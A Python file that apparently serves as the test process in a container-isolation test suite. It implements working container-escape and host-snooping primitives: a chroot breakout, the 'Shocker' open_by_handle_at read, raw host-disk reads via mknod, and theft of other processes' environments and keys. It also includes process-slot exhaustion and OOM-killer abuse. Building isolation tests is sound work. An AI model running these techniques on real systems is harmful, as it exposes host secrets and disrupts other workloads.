"""The attackers: small programs that run inside a container, and try to read or change what lies outside of it.

This file is the container's first process, and needs only Python. Each line of its standard input is an order in JSON,
``{"do": name, "with": {...}}``; it forks, and answers with a line: what the program has found out.
"""

from __future__ import annotations

import ctypes
import errno
import json
import mmap
import os
import signal
import socket
import struct
import sys

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

PATIENCE_S = 10
PR_SET_CHILD_SUBREAPER = 36  # linux/prctl.h
KEYCTL_READ, KEYCTL_SEARCH, SESSION_KEYRING = 11, 10, -3  # linux/keyctl.h
SYS_KEYCTL = {"x86_64": 250, "aarch64": 219}
MEGABYTE = 1 << 20
STACK_BYTES, GREED_S = 1 << 16, 0.001
CLIMB = 64  # more directories than any path has
CHANNEL_FDS = (0, 1, 2)

libc = ctypes.CDLL(None, use_errno=True)


# ---- what reads ------------------------------------------------------------------------------------


def read_file(path: str) -> str:
    """Read a file."""
    with open(path, encoding="utf-8", errors="replace") as file:
        return file.read(MEGABYTE)


def host_name() -> str:
    """Ask for the machine's name."""
    return os.uname().nodename


def read_commands(marker: str) -> str:
    """Look for a password on the command lines of all processes that can be seen."""
    return next((line for _, line in _commands() if marker in line), "")


def _commands() -> Iterator[tuple[int, str]]:
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            yield int(name), read_file(f"/proc/{name}/cmdline").replace("\0", " ")
        except OSError:
            continue


def kill_process(marker: str) -> str:
    """Kill a process that isn't the container's."""
    for pid, line in _commands():
        if marker in line:
            os.kill(pid, signal.SIGKILL)
            return f"killed {pid}"
    raise ProcessLookupError(errno.ESRCH, "no such process is to be seen")


def ask_service(address: str) -> str:
    """Connect to a service of the host, and ask it for its secret."""
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(PATIENCE_S / 2)
        client.connect("\0" + address[1:] if address.startswith("@") else address)
        return client.recv(100).decode()


def read_shared_memory(segment: int) -> str:
    """Attach a System V shared memory segment by its number, and read it."""
    libc.shmat.restype = ctypes.c_void_p
    at = libc.shmat(segment, None, 0o10000)
    if at in (None, ctypes.c_void_p(-1).value):
        raise _failure()
    return ctypes.string_at(at).decode()


def read_key(serial: int) -> str:
    """Read a key by its number; numbers can be guessed, and belong to no namespace."""
    return _keyctl_read(serial)


def read_session_key(name: str) -> str:
    """Look for a key in the session keyring of who started the container."""
    return _keyctl_read(_keyctl(KEYCTL_SEARCH, SESSION_KEYRING, b"user", name.encode(), 0))


def _keyctl_read(serial: int) -> str:
    text = ctypes.create_string_buffer(100)
    _keyctl(KEYCTL_READ, serial, text, len(text))
    return text.value.decode()


def _keyctl(*words: object) -> int:
    return _checked(libc.syscall(SYS_KEYCTL[os.uname().machine], *words))


def read_disk(major: int, minor: int) -> str:
    """Make a device node for a disk of the host, and read the disk."""
    path = "/tmp/disk"
    os.makedirs("/tmp", exist_ok=True)
    os.mknod(path, 0o60600, os.makedev(major, minor))
    try:
        with open(path, "rb", 0) as disk:
            return disk.read(512).rstrip(b"\0").decode(errors="replace")
    finally:
        os.unlink(path)


def leave_root(path: str) -> str:
    """Leave a changed root directory: change it once more, climb, and read a file of the host."""
    os.makedirs("/tmp/below", exist_ok=True)
    here = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.chroot("/tmp/below")
    os.fchdir(here)
    for _ in range(CLIMB):
        os.chdir("..")
    os.chroot(".")
    return read_file(path)


def become_root(path: str) -> str:
    """As an ordinary user, start a program of the image that has the set-user-ID bit, to read a file of root's.

    It lies in a directory that the container shares with its neighbour.
    """
    program = "/tmp/cat"
    reading, writing = os.pipe()
    child = os.fork()
    if not child:
        os.dup2(writing, 1)
        os.setgroups([])
        os.setgid(1000)
        os.setuid(1000)
        os.execv(program, ["cat", path])
    os.close(writing)
    with os.fdopen(reading) as file:
        said = file.read()
    os.waitpid(child, 0)
    return said


def read_usage(name: str) -> str:
    """Look how much memory the neighbour uses, in the cgroups that the container sees."""
    for parent, directories, _ in os.walk("/sys/fs/cgroup"):
        if name in directories:
            for file in ("memory.usage_in_bytes", "memory.current"):
                if os.path.exists(f"{parent}/{name}/{file}"):
                    return f"{name} uses {read_file(f'{parent}/{name}/{file}')}"
    raise FileNotFoundError(errno.ENOENT, "the neighbour's cgroup is not to be seen")


def read_environment(marker: str) -> str:
    """Look for a password in the environment of a process of the host."""
    for pid, line in _commands():
        if marker in line:
            return read_file(f"/proc/{pid}/environ")
    raise ProcessLookupError(errno.ESRCH, "no such process is to be seen")


def open_by_handle(mount: str, kind: int, handle: str) -> str:
    """Open a file of the host by its handle, from any file on the same file system ("Shocker")."""
    raw = bytes.fromhex(handle)
    wanted = ctypes.create_string_buffer(struct.pack("Ii", len(raw), kind) + raw)
    place = os.open(mount, os.O_RDONLY)
    fd = _checked(libc.open_by_handle_at(place, wanted, os.O_RDONLY))
    return os.read(fd, 100).decode()


# ---- what changes ----------------------------------------------------------------------------------


def write_file(path: str, text: str) -> str:
    """Write to a file."""
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)
    return "written"


def write_terminal(text: str) -> str:
    """Write to the terminal of who started the container, though none of the streams leads to it."""
    return write_file("/dev/tty", text)


def change_limit(to_bytes: int) -> str:
    """Change the container's own memory limit."""
    for line in read_file("/proc/self/cgroup").splitlines():
        _, controllers, path = line.split(":", 2)
        if controllers == "memory":
            return write_file(f"/sys/fs/cgroup/memory{path}/memory.limit_in_bytes", str(to_bytes))
        if not controllers and os.path.exists(file := f"/sys/fs/cgroup{path}/memory.max"):
            return write_file(file, str(to_bytes))
    raise FileNotFoundError(errno.ENOENT, "there is no file with a memory limit")


def make_processes(most: int) -> str:
    """Make so many threads, which count as processes, that nobody else can make a process. They end with this one."""
    import _thread
    from time import sleep

    _thread.stack_size(STACK_BYTES)
    made, full = 0, False
    while made < most:
        try:
            _thread.start_new_thread(signal.pause, ())
            made += 1
        except RuntimeError:
            if not full:
                os.write(1, f"made {made} processes".encode())
                os.close(1)
            full = True
            sleep(GREED_S)  # others may end, and leave room
    return _hold(f"made {made} processes")


def eat_memory(children: int, each_bytes: int) -> str:
    """Use so much memory, in many processes, that the kernel kills one: the largest, which is another's."""
    _spare_first_process()
    for _ in range(children):
        if not os.fork():
            eaten = mmap.mmap(-1, each_bytes)
            for page in range(0, each_bytes, mmap.PAGESIZE):
                eaten[page] = 1
            _stay()
    return _hold("eaten")


def _spare_first_process() -> None:
    """Have the kernel kill this process and its children rather than the one that starts the attackers."""
    write_file("/proc/self/oom_score_adj", "500")


def _hold(said: str) -> str:
    """Say so now, and stay until the end is ordered."""
    os.write(1, said.encode())
    _stay()
    return ""


def _stay() -> None:
    os.close(1)  # who waits for the answer needn't wait longer
    signal.alarm(0)
    while True:
        signal.pause()


# ---- what the neighbour does -----------------------------------------------------------------------


def work(bytes_: int) -> str:
    """Use some memory, as a neighbour that does its work."""
    _spare_first_process()
    held = mmap.mmap(-1, bytes_)
    for page in range(0, bytes_, mmap.PAGESIZE):
        held[page] = 1
    return _hold("working")


def make_process() -> str:
    """Make a process."""
    child = os.fork()
    if not child:
        os._exit(0)
    os.waitpid(child, 0)
    return "made"


def prepare(source: str) -> str:
    """Make the program with the set-user-ID bit that `become_root` uses, as an image may have one."""
    os.makedirs("/tmp", exist_ok=True)
    with open(source, "rb") as old, open("/tmp/cat", "wb") as new:
        new.write(old.read())
    os.chmod("/tmp/cat", 0o4755)
    return "prepared"


# ---- below -----------------------------------------------------------------------------------------


def _checked(result: int) -> int:
    if result < 0:
        raise _failure()
    return int(result)


def _failure() -> OSError:
    number = ctypes.get_errno()
    return OSError(number, os.strerror(number))


def main() -> None:
    """Carry out orders until the input ends."""
    signal.signal(signal.SIGCHLD, signal.SIG_DFL)
    libc.prctl(PR_SET_CHILD_SUBREAPER, 1)  # what the attackers leave comes here, also in the host's pid namespace
    held: list[int] = []
    for line in sys.stdin:
        order = json.loads(line)
        if order["do"] == "end":
            _end(held)
            answer = {"said": "ended"}
        elif order["do"] == "alive":
            answer = {"said": str(any(map(_runs, held)))}
        else:
            answer = _carried_out(globals()[order["do"]], order["with"], held)
        print(json.dumps(answer), flush=True)
    _end(held)


def _runs(pid: int) -> bool:
    try:
        return os.waitpid(pid, os.WNOHANG) == (0, 0)
    except ChildProcessError:
        return False


def _end(held: list[int]) -> None:
    for pid in held:
        try:
            os.killpg(pid, signal.SIGKILL)
        except OSError:
            continue
    held.clear()
    while True:
        try:
            os.waitpid(-1, 0)
        except ChildProcessError:
            return


def _carried_out(program: Callable[..., str], words: dict[str, object], held: list[int]) -> dict[str, str]:
    reading, writing = os.pipe()
    try:
        child = os.fork()
    except OSError as error:
        os.close(reading)
        os.close(writing)
        return {"failed": str(error)}
    if not child:
        _run(program, words, writing)
    os.close(writing)
    held.append(child)
    with os.fdopen(reading, "rb") as file:
        said = file.read().decode(errors="replace")
    kind, _, text = said.partition(":") if said.startswith(("failed:", "said:")) else ("said", "", said)
    return {kind: text}


def _run(program: Callable[..., str], words: dict[str, object], writing: int) -> None:
    os.setpgid(0, 0)
    signal.alarm(PATIENCE_S)
    for fd in CHANNEL_FDS:
        if fd != 1:
            os.dup2(os.open("/dev/null", os.O_RDWR), fd)
    os.dup2(writing, 1)
    os.close(writing)
    try:
        said = "said:" + program(**words)
    except BaseException as error:
        said = f"failed:{error}"
    try:
        os.write(1, said.encode())
    finally:
        os._exit(0)


if __name__ == "__main__":
    main()
